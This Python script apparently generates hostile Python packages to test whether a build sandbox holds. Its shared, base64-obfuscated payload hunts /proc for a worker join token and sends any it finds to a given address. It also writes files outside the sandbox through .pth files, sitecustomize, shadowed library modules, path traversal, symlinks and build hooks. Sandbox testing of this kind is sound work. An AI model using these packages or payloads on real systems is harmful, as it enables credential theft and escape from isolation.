"""Writes hostile distributions into a folder, and prints them as JSON: `[{name, file, sha256, lock}]`.

The arguments are the folder, a folder outside of it that no build may write to, and an address that receives what was
found. Each distribution runs the same code: it writes outside, and sends the worker's join token to the address if it
finds it.
"""

import base64
import hashlib
import io
import json
import pathlib
import sys
import tarfile
import zipfile

FOLDER, OUTSIDE, LOOT = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3]
CODE = f"""
import os, pathlib, urllib.request
def found():
    for place in [*pathlib.Path('/proc').glob('[0-9]*/environ'), *pathlib.Path('/proc').glob('[0-9]*/cmdline')]:
        try:
            text = place.read_bytes()
        except OSError:
            continue
        if b'STOKE_JOIN_TOKEN=' in text or b'jt_' in text:
            return 'token-in-' + place.as_posix().replace('/', '-')
    if any(name.startswith('STOKE_') and 'TOKEN' in name for name in os.environ):
        return 'token-in-its-own-environment'
    return ''
if not os.environ.get('HOSTILE_RAN'):
    os.environ['HOSTILE_RAN'] = '1'
    for place in ({OUTSIDE!r}, '/tmp/stokehold-hostile-escaped'):
        try:
            pathlib.Path(place, f'escaped-{{os.getuid()}}').write_text('x')
        except OSError:
            pass
    if loot := found():
        try:
            urllib.request.urlopen({LOOT!r} + loot, timeout=2).close()
        except OSError:
            pass
"""
LINE = f"import base64; exec(base64.b64decode({base64.b64encode(CODE.encode()).decode()!r}))\n"
made = []


def keep(name: str, file: str, content: bytes) -> None:
    (FOLDER / file).write_bytes(content)
    digest = hashlib.sha256(content).hexdigest()
    made.append({"name": name, "file": file, "sha256": digest, "lock": f"{file.split('-')[0].replace('_', '-')}==1.0 --hash=sha256:{digest}\n"})


def wheel(name: str, files: dict[str, str], entry_points: str = "", links: dict[str, str] | None = None) -> None:
    project = f"hostile_{len(made)}"
    info = f"{project}-1.0.dist-info"
    all_files = {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        **({f"{info}/entry_points.txt": entry_points} if entry_points else {}),
        **{path.replace("PROJECT", project): text for path, text in files.items()},
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        record = ""
        for path, text in all_files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            record += f"{path},sha256={digest},{len(text.encode())}\n"
            one = zipfile.ZipInfo(path)
            one.external_attr = 0o100755 << 16
            archive.writestr(one, text)
        for path, target in (links or {}).items():
            one = zipfile.ZipInfo(path)
            one.external_attr = 0o120777 << 16
            archive.writestr(one, target)
            record += f"{path},,\n"
        archive.writestr(f"{info}/RECORD", record + f"{info}/RECORD,,\n")
    keep(name, f"{project}-1.0-py3-none-any.whl", buffer.getvalue())


def sdist(name: str, files: dict[str, str]) -> None:
    project = f"hostile_{len(made)}"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in {"PKG-INFO": f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n", **files}.items():
            one = tarfile.TarInfo(f"{project}-1.0/{path}")
            content = text.replace("PROJECT", project).encode()
            one.size = len(content)
            archive.addfile(one, io.BytesIO(content))
    keep(name, f"{project}-1.0.tar.gz", buffer.getvalue())


SETUP = CODE + "\nfrom setuptools import setup\nsetup(name='PROJECT', version='1.0')\n"
BACKEND = CODE + "\ndef get_requires_for_build_wheel(c=None): return []\ndef build_wheel(*a, **k): raise SystemExit(1)\ndef prepare_metadata_for_build_wheel(*a, **k): raise SystemExit(1)\n"
wheel("plain", {"PROJECT.py": ""})
wheel(".pth", {"hostile.pth": LINE})
wheel("two .pth", {"a_hostile.pth": LINE, "zzz_hostile.pth": LINE})
wheel(".pth by data", {"PROJECT-1.0.data/purelib/hostile.pth": LINE, "PROJECT-1.0.data/platlib/hostile2.pth": LINE})
wheel("distutils-precedence.pth", {"distutils-precedence.pth": LINE, "_virtualenv.pth": LINE, "_virtualenv.py": CODE})
wheel("sitecustomize", {"sitecustomize.py": CODE})
wheel("usercustomize", {"usercustomize.py": CODE})
wheel(".egg-link", {"hostile.egg-link": f"{OUTSIDE}\n.", "easy-install.pth": f"{OUTSIDE}\n" + LINE})
wheel("entry points", {"PROJECT.py": CODE}, "[console_scripts]\npython = PROJECT:x\nuv = PROJECT:x\npython3 = PROJECT:x\n[distutils.commands]\nx = PROJECT:x\n")
wheel("scripts", {"PROJECT-1.0.data/scripts/python": "#!/bin/sh\n" + f"echo x > {OUTSIDE}/escaped-script\n", "PROJECT-1.0.data/scripts/uv": "#!/bin/sh\n" + f"echo x > {OUTSIDE}/escaped-script\n"})
wheel("conftest", {"conftest.py": CODE, "setup.py": SETUP, "pytest.ini": ""})
wheel("pyvenv.cfg", {"PROJECT-1.0.data/data/pyvenv.cfg": f"home = {OUTSIDE}\ninclude-system-site-packages = true\n"})
wheel("its own runner", {"stokehold/__init__.py": CODE, "stokehold/runner/__init__.py": CODE, "stokehold/runner/__main__.py": CODE, "stokehold/runner/probe.py": CODE})
wheel("shadows of the library", {name: CODE for name in ("json.py", "encodings/__init__.py", "site.py", "os.py", "runpy.py", "importlib/__init__.py", "_sysconfigdata__linux_x86_64-linux-gnu.py")})
wheel("bytecode alone", {"PROJECT/__init__.py": CODE, "__pycache__/site.cpython-311.pyc": "x"})
wheel("names that lead out", {"../../../../../../escaped-wheel.pth": LINE, f"{OUTSIDE}/escaped-wheel": "x"})
wheel("data that leads out", {"PROJECT-1.0.data/data/../../../../../../../escaped": "x", f"PROJECT-1.0.data/data{OUTSIDE}/escaped-data": "x"})
wheel("headers and more", {"PROJECT-1.0.data/headers/x.h": "x", "PROJECT-1.0.data/data/lib/python3.11/sitecustomize.py": CODE, "PROJECT-1.0.data/data/bin/activate_this.py": CODE})
wheel("links", {}, links={"out": OUTSIDE, "hostile.pth": f"{OUTSIDE}/hostile.pth"})
wheel("a library for the loader", {"PROJECT/libc.so.6": "x", "PROJECT-1.0.data/data/lib/libpython3.11.so.1.0": "x"})
sdist("setup.py", {"setup.py": SETUP})
sdist("a backend of its own", {"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n", "backend.py": BACKEND})
sdist("setup.py and a pyproject", {"setup.py": SETUP, "pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"})
sdist("a dynamic version", {"pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n[project]\nname = 'PROJECT'\ndynamic = ['version']\n[tool.setuptools.dynamic]\nversion = {attr = 'evil.v'}\n", "evil.py": CODE + "\nv = '1.0'\n"})
sdist("setup.cfg", {"setup.cfg": "[metadata]\nname = PROJECT\nversion = attr: evil.v\n", "evil.py": CODE + "\nv = '1.0'\n"})
print(json.dumps(made))
